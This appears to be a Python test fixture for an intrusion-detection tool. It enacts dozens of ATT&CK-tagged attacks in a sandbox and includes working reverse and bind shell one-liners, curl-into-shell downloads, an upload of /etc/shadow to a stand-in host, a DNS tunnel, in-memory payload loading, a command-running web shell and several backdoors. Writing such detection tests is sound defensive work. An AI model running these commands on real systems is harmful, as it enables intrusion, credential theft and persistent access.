# SPDX-License-Identifier: GPL-3.0-or-later
"""What intruders do, acted out for real on the stage: each in a session or service of its own.

An attack says which technique a flag has to name, and whether it is so plain that its trace must
score over 66. Nothing leaves the stage's namespaces; what would harm the machine is aimed at names
that are not there.
"""
import base64
import threading

from boxes import container
from harness import wait_until
from stage import ATTACKER, DB

SERVER = r"""
import http.server, subprocess, sys, urllib.parse
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        words = urllib.parse.unquote(self.path[1:])
        if words.startswith('write '):
            open('/var/tmp/up.sh', 'w').write('#!/bin/sh\nid\n')
            done = b''
        else:
            done = subprocess.run(words, shell=True, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                                  stderr=subprocess.STDOUT).stdout
        self.send_response(200)
        self.end_headers()
        self.wfile.write(done)
    def log_message(self, *_):
        pass
http.server.HTTPServer(('0.0.0.0', int(sys.argv[1])), Handler).serve_forever()
"""

CONNECT = "import socket as s; c = s.socket(); c.connect(('{ATTACKER}', 4444)); "


class Attack:
    """What is typed into a session of `user`; or a function that acts and gives a pid of the trace."""

    def __init__(self, name, technique, lines, user="root", plain=False, peer=None, act=None):
        self.name, self.technique, self.lines, self.user = name, technique, lines, user
        self.plain, self.peer, self.act = plain, peer, act


def typed(sock, words=b"id\nuname -a\nps\nexit\n"):
    """The other end of a reverse shell: types, and waits until it is over."""
    with sock.accept()[0] as shell:
        shell.settimeout(15)
        shell.sendall(words)
        try:
            while shell.recv(65536):
                pass
        except OSError:
            pass


def come_in(stage, port, words=b"id\nexit\n"):
    """Comes in through a bind shell."""
    def reached():
        try:
            return stage.world.connect(port)
        except OSError:
            return None
    with wait_until(reached) as shell:
        shell.sendall(words)
        try:
            while shell.recv(65536):
                pass
        except OSError:
            pass


def web(stage, requests, port=8081, name="nginx"):
    """Requests to a server that runs what it is asked to; its pid."""
    stage.write("/opt/server.py", SERVER)
    server = stage.start([f"/opt/{name}", "-I", "/opt/server.py", str(port)], f"system.slice/{name}-{port}.service",
                         env={"PYTHONHOME": "/usr", "PATH": "/usr/sbin:/usr/bin:/sbin:/bin"})
    stage.listens(port)
    for request in requests:
        stage.world.get("/" + request.replace(" ", "%20"), port=port)
    server.terminate()
    return server.pid


def brute_force(stage):
    stage.sshd()
    for _ in range(25):
        stage.world.connect(22).close()
    return next(process.pid for process in stage.started if process.args[0].endswith("sshd"))


def stop_auditd(stage):
    """A daemon of that name, which another session kills."""
    daemon = stage.start(["/opt/auditd", "60"], "system.slice/auditd.service")
    return [f"kill -9 {daemon.pid}"]


def out_of_container(stage):
    """A container that shares the host's pids and may do everything enters the host; its pid."""
    return container(stage, "escape", ["sh", "-c", f"sleep 0.3; nsenter -t {stage.holder.pid} -m true; sleep 1"],
                     all_capabilities=True)


ENCODED = base64.b64encode(b"id; uname -a\n").decode()
MEMFD = ("python3 -c \"import os, socket as s; c = s.create_connection(('198.51.100.80', 80)); "
         "c.sendall(b'GET /program HTTP/1.0\\r\\n\\r\\n'); f = c.makefile('rb'); "
         "b = f.read().split(b'\\r\\n\\r\\n', 1)[1]; m = os.memfd_create('x'); os.write(m, b); "
         "os.execve(m, ['x'], {})\"")
DROPPER = "curl -s -o /var/tmp/.update http://cdn.example.net/program; chmod 755 /var/tmp/.update"
WRITE_MEMORY = ("import ctypes; l = ctypes.CDLL(None); P = {pid}; "
                "a = int(next(x for x in open('/proc/%d/maps' % P) if 'stack' in x).split('-')[0], 16); "
                "m = open('/proc/%d/mem' % P, 'r+b', 0); m.seek(a + 64); m.write(b'code')")
VM_WRITEV = """import ctypes, struct
P = {pid}
at = int(next(x for x in open('/proc/%d/maps' % P) if 'stack' in x).split('-')[0], 16)
text = ctypes.create_string_buffer(b'code')
here = (ctypes.c_ulong * 2)(ctypes.addressof(text), 4)
there = (ctypes.c_ulong * 2)(at + 64, 4)
ctypes.CDLL(None).process_vm_writev(P, here, 1, there, 1, 0)
"""
DNS_TUNNEL = ("import socket as s, os; u = s.socket(s.AF_INET, s.SOCK_DGRAM); u.settimeout(2); "
              "[(u.sendto(os.urandom(2) + bytes([1,0,0,1,0,0,0,0,0,0,40]) + os.urandom(20).hex().encode() + "
              "b'\\x01t\\x04evil\\x03net\\x00\\x00\\x10\\x00\\x01', ('198.51.100.53', 53)), u.recv(512)) "
              "for _ in range(15)]")
SCAN = ("import socket as s; [s.socket().connect_ex(('{DB}', p)) for p in range(8000, 8045)]"
        .replace("{DB}", DB))
BEACON = ("import socket as s, time; [(s.create_connection(('198.51.100.80', 80)).close(), time.sleep(0.15)) "
          "for _ in range(10)]")
PYTHON_REVERSE = (f"python3 -c 'import socket,os,subprocess;s=socket.socket();s.connect((\"{ATTACKER}\",4444));"
                  "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])' 2>/dev/null")
PERL_REVERSE = (f"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"{ATTACKER}\")));"
                "open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");'")
FIFO_REVERSE = (f"mkfifo /var/tmp/f; cat /var/tmp/f | /bin/sh 2>&1 | busybox nc {ATTACKER} 4444 >/var/tmp/f; "
                "rm /var/tmp/f")

ATTACKS = [
    Attack("reverse shell of bash", "T1059.004", [f"bash -c 'bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1'"], "ana",
           True, typed),
    Attack("reverse shell of python", "T1059.004", [PYTHON_REVERSE], "ana", True, typed),
    Attack("reverse shell of perl", "T1059.004", [PERL_REVERSE], "ana", True, typed),
    Attack("reverse shell through a fifo", "T1059.004", [FIFO_REVERSE], "ana", True, typed),
    Attack("bind shell of nc", "T1059.004", ["busybox nc -l -p 5555 -e /bin/sh & sleep 0.1; wait"], "ana", True,
           act=lambda stage: threading.Thread(target=come_in, args=(stage, 5555)).start()),
    Attack("download into a shell, and what it drops", "T1105",
           ["curl -s http://cdn.example.net/stage1 | sh"], "ana"),
    Attack("dropper that deletes itself", "T1070.004",
           [DROPPER, "/var/tmp/.update 9 & sleep 0.3; rm /var/tmp/.update; sleep 1.5; kill $!"], "ana", True),
    Attack("program in memory, from a connection", "T1620", [MEMFD], "ana", True),
    Attack("encoded script into a shell", "T1140", [f"echo {ENCODED} | base64 -d | bash"], "ana"),
    Attack("program named like a kernel thread", "T1036", ["(exec -a '[kworker/0:1]' /bin/sleep 0.2)"], "ana", True),
    Attack("daemon's name from a temporary folder", "T1036.005", ["cp /bin/sleep /var/tmp/sshd; /var/tmp/sshd 0.1"], "ana"),
    Attack("document that is a program", "T1036.007",
           ["cp /bin/true /var/tmp/invoice.pdf.bin; /var/tmp/invoice.pdf.bin"], "ana"),
    Attack("library preloaded from a temporary folder", "T1574.006", ["LD_PRELOAD=/var/tmp/hook.so /bin/true"], "ana"),
    Attack("library preloaded into everything", "T1574.006", ["echo >/etc/ld.so.preload; rm /etc/ld.so.preload"], plain=True),
    Attack("job of cron", "T1053.003", ["echo '* * * * * root /var/tmp/x' >/etc/cron.d/system"]),
    Attack("unit of systemd", "T1543.002", ["printf '[Service]\\nExecStart=/var/tmp/x\\n' >/etc/systemd/system/net.service"]),
    Attack("key that may log in", "T1098.004", ["mkdir -p /root/.ssh; echo ssh-rsa AAAA >>/root/.ssh/authorized_keys"]),
    Attack("rules of sudo", "T1548.003", ["mkdir -p /etc/sudoers.d; echo 'ana ALL=NOPASSWD: ALL' >/etc/sudoers.d/90-ana"]),
    Attack("authentication", "T1556.003", ["echo 'auth sufficient pam_permit.so' >>/etc/pam.d/common-auth"]),
    Attack("account by hand", "T1136.001", ["echo 'sys::0:0::/:/bin/sh' >>/etc/passwd"]),
    Attack("second root", "T1136.001", ["/usr/sbin/useradd -o -u 0 toor"], plain=True),
    Attack("setuid shell, used", "T1548.001",
           ["cp /bin/dash /var/tmp/.s; chmod 4755 /var/tmp/.s", "su -s /bin/sh ana -c '/var/tmp/.s -p -c id'"], plain=True),
    Attack("setuid program with no arguments", "T1068",
           ["python3 -c \"import ctypes; ctypes.CDLL(None).execve(b'/opt/pkexec', (ctypes.c_char_p * 1)(), "
            "(ctypes.c_char_p * 1)())\""], "ana", True),
    Attack("memory of another process written", "T1055",
           ["sleep 30 & python3 - <<END", *VM_WRITEV.format(pid="$!").splitlines(), "END", "kill %1"]),
    Attack("another's memory written by /proc", "T1055.009",
           [f"sleep 30 & python3 -c \"{WRITE_MEMORY.format(pid='$!')}\"", "kill %1"]),
    Attack("log removed", "T1070.002", ["touch /var/log/auth.log; rm -f /var/log/auth.log; shred -u /var/log/wtmp"]),
    Attack("history switched off", "T1070.003", ["ln -sf /dev/null ~/.bash_history; HISTFILE=/dev/null bash -c true"]),
    Attack("audit's daemon killed", "T1562.001", None, plain=True, act=stop_auditd),
    Attack("audit switched off", "T1562.001", ["/opt/auditctl -e 0; /opt/auditctl -D"], plain=True),
    Attack("packet filter emptied", "T1562.004", ["nft flush ruleset"]),
    Attack("mandatory access switched off", "T1562.001", ["/opt/setenforce 0"]),
    Attack("disk overwritten", "T1561", ["shred -n 1 /dev/sdzz9 2>/dev/null"], plain=True),
    Attack("process hidden", "T1564", ["sleep 5 & mount -t tmpfs none /proc/$!; umount /proc/$!; kill $!"], plain=True),
    Attack("password hashes read", "T1003.008", ["cat /etc/shadow >/dev/null"]),
    Attack("password hashes sent away", "T1003.008",
           ["curl -s -T /etc/shadow http://cdn.example.net/in >/dev/null"], plain=True),
    Attack("keys searched for", "T1552.004", ["find /home -name id_rsa -o -name id_ed25519"], "ana"),
    Attack("cloud's metadata", "T1552.005", ["curl -s http://169.254.169.254/latest/meta-data/ >/dev/null"], "ana"),
    Attack("passwords guessed", "T1110", None, act=brute_force),
    Attack("host explored", "T1082", ["id; whoami; uname -a; hostname; ps; ip a; df; lsblk; who; env"], "ana"),
    Attack("setuid files searched for", "T1548.001", ["find / -maxdepth 2 -perm -4000 -type f 2>/dev/null"], "ana"),
    Attack("ports scanned", "T1046", [f"python3 -c \"{SCAN}\""], "ana"),
    Attack("web shell that looks around and downloads", "T1190", None, plain=True, act=lambda stage: web(
        stage, ["id; uname -a; cat /etc/passwd", "curl -s http://cdn.example.net/stage1 | sh"])),
    Attack("program uploaded through a web server", "T1505.003", None, plain=True, act=lambda stage: web(
        stage, ["write it", "chmod 755 /var/tmp/up.sh; /var/tmp/up.sh"], 8082)),
    Attack("from the web server to the next host", "T1021.004", None, plain=True, act=lambda stage: web(
        stage, [f"ssh -o ConnectTimeout=1 -o BatchMode=yes root@{DB} id", "whoami"], 8083, "php-fpm")),
    Attack("logins to many hosts", "T1021.004",
           ["for i in 1 2 3 4 5 6 7; do ssh -o ConnectTimeout=1 -o BatchMode=yes 127.0.1.$i true & done 2>/dev/null; wait"], "ana"),
    Attack("tunnel back in", "T1572", [f"timeout 1 ssh -o BatchMode=yes -N -R 9000:127.0.0.1:22 {ATTACKER}"], "ana"),
    Attack("data in names", "T1071.004", [f"python3 -c \"{DNS_TUNNEL}\""], "ana"),
    Attack("coins mined", "T1496", ["/opt/xmrig -o stratum+tcp://pool.example.org:3333 -u x --donate-level 1"], "ana"),
    Attack("archive sent as it is made", "T1560.001", [f"tar -c /home 2>/dev/null | busybox nc {ATTACKER} 4444"], "ana",
           peer=lambda sock: typed(sock, b"")),
    Attack("first process' namespaces entered", "T1611", ["nsenter -t 1 -u true"]),
    Attack("out of a container", "T1611", None, plain=True, act=out_of_container),
    Attack("kernel's helper set", "T1611",
           ["mkdir -p /var/tmp/proc/sys/kernel", "sh -c 'echo \"|/var/tmp/x\" >/var/tmp/proc/sys/kernel/core_pattern'"], plain=True),
    Attack("container runtime overwritten", "T1611", ["cat /bin/true >/usr/local/sbin/runc; chmod 755 /usr/local/sbin/runc"],
           plain=True),
    Attack("program from shared memory", "T1620", ["cp /bin/true /dev/shm/x; /dev/shm/x"], "ana"),
    Attack("program in a hidden folder", "T1564.001", ["mkdir /var/tmp/.cache; cp /bin/true /var/tmp/.cache/x; /var/tmp/.cache/x"], "ana"),
    Attack("program of the system replaced", "T1554", ["cat /bin/true >/usr/bin/lsusb.py; chmod 755 /usr/bin/lsusb.py; /usr/bin/lsusb.py"]),
    Attack("beacon", "T1071", [f"python3 -c \"{BEACON}\""], "ana"),
]
